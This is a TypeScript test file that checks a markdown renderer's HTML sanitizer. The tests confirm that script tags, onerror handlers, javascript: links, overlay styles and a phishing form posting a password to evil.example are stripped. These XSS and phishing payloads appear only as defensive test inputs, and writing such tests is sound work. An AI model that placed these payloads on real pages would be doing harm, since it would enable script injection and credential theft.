import { JSDOM } from 'jsdom';
import { beforeAll, describe, expect, it } from 'vitest';
import { config } from '@/config';
import { provideDomWindow, renderMarkdown } from './render-markdown';

describe('renderMarkdown (in a DOM of its own, as the prerenderer runs it)', () => {
  beforeAll(() => {
    provideDomWindow(new JSDOM('').window as unknown as Parameters<typeof provideDomWindow>[0]);
  });

  it('drops what could run: scripts, event handlers, javascript: links', () => {
    const html = renderMarkdown(
      'Hello <script>alert(1)</script><img src="x.png" onerror="alert(2)"> [click](javascript:alert(3))',
    );
    expect(html).toContain('Hello');
    expect(html).not.toMatch(/<script|onerror|javascript:/i);
  });

  it('drops inline styles, style sheets and forms, which could overlay the page or phish (issue 20, finding 8)', () => {
    const html = renderMarkdown(
      '<p style="position:fixed;inset:0;z-index:9999">Notice</p>\n\n' +
        '<style>body{display:none}</style>\n\n' +
        '<form action="https://evil.example/steal"><input name="password" type="password">' +
        '<textarea name="t"></textarea><select name="s"><option>a</option></select>' +
        '<button formaction="https://evil.example">Log in</button></form>\n\n' +
        '<div><span style="color:red">kept text</span></div>',
    );
    expect(html).toContain('Notice');
    expect(html).toContain('kept text');
    expect(html).not.toMatch(
      /style|<form|<input|<textarea|<select|<option|<button|formaction|evil\.example/i,
    );
  });

  it('makes the CMS’s uploads absolute and lazy, and opens outside links apart', () => {
    const html = renderMarkdown(
      '![Lobby](/uploads/lobby.jpg)\n\n[Map](https://www.openstreetmap.org/) [Blogs](/en/blogs)',
    );
    expect(html).toContain(`src="${config.cmsUrl}/uploads/lobby.jpg"`);
    expect(html).toContain('loading="lazy"');
    expect(html).toContain('href="https://www.openstreetmap.org/" target="_blank" rel="noopener noreferrer"');
    expect(html).toMatch(/<a href="\/en\/blogs">Blogs<\/a>/);
  });
});
